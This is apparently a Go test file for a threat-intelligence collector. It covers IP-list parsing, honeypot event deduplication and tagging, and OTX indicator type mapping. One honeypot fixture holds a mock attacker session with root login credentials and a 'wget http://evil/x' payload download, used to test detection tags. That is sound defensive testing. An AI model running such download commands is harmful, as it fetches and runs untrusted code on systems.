package feeds

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"testing"

	"github.com/sentineltrace/threat-intel/internal/model"
)

func TestEmergingThreatsCollector_FetchIPList(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Write([]byte("# comment\n\n1.2.3.4\n5.6.7.8 extra-field\nnot-an-ip\n"))
	}))
	defer srv.Close()

	c := NewEmergingThreatsCollector()
	got, err := c.fetchIPList(context.Background(), srv.URL, "emerging_threats", []string{"compromised"})
	if err != nil {
		t.Fatalf("fetchIPList: %v", err)
	}
	if len(got) != 2 {
		t.Fatalf("want 2 indicators, got %d", len(got))
	}
	if got[0].Value != "1.2.3.4" || got[1].Value != "5.6.7.8" {
		t.Fatalf("unexpected values: %+v", got)
	}
	if *got[0].Source != "emerging_threats" {
		t.Fatalf("unexpected source: %v", *got[0].Source)
	}
}

func TestHoneytrapCollector_ParseEventsFile_DedupesAndTags(t *testing.T) {
	f, err := os.CreateTemp(t.TempDir(), "events-*.jsonl")
	if err != nil {
		t.Fatalf("create temp file: %v", err)
	}
	content := `{"session_id":"a","protocol":"ssh","category":"bruteforce","severity":"high","source":{"ip":"10.0.0.1","port":22},"credentials":{"username":"root","password":"x"},"command":{"command":"wget http://evil/x"}}
{"session_id":"b","protocol":"ssh","category":"bruteforce","severity":"high","source":{"ip":"10.0.0.1","port":22}}
`
	if _, err := f.WriteString(content); err != nil {
		t.Fatalf("write: %v", err)
	}
	f.Close()

	c := NewHoneytrapCollector("", "", f.Name())
	got, err := c.parseEventsFile(f.Name())
	if err != nil {
		t.Fatalf("parseEventsFile: %v", err)
	}
	if len(got) != 1 {
		t.Fatalf("want 1 deduped indicator, got %d", len(got))
	}
	tags := got[0].Tags
	wantTags := map[string]bool{
		"honeypot:ssh": false, "category:bruteforce": false, "has_credentials": false,
		"targets_admin": false, "executed_commands": false, "download_attempt": false,
	}
	for _, tag := range tags {
		if _, ok := wantTags[tag]; ok {
			wantTags[tag] = true
		}
	}
	for tag, seen := range wantTags {
		if !seen {
			t.Errorf("expected tag %q, got %+v", tag, tags)
		}
	}
}

func TestOTXCollector_ConvertType(t *testing.T) {
	cases := map[string]model.IocType{
		"IPv4": model.IocTypeIP, "domain": model.IocTypeDomain,
		"URL": model.IocTypeURL, "FileHash-SHA256": model.IocTypeHash,
		"email": model.IocTypeEmail, "CVE": model.IocTypeCVE,
	}
	for in, want := range cases {
		got, ok := convertOTXType(in)
		if !ok || got != want {
			t.Errorf("convertOTXType(%q) = %v, %v; want %v", in, got, ok, want)
		}
	}
	if _, ok := convertOTXType("unknown"); ok {
		t.Errorf("expected unknown type to be rejected")
	}
}

func TestOTXCollector_IsConfigured(t *testing.T) {
	if (&OTXCollector{}).IsConfigured() {
		t.Fatalf("expected unconfigured collector without an api key")
	}
	if !NewOTXCollector("key").IsConfigured() {
		t.Fatalf("expected configured collector with an api key")
	}
}
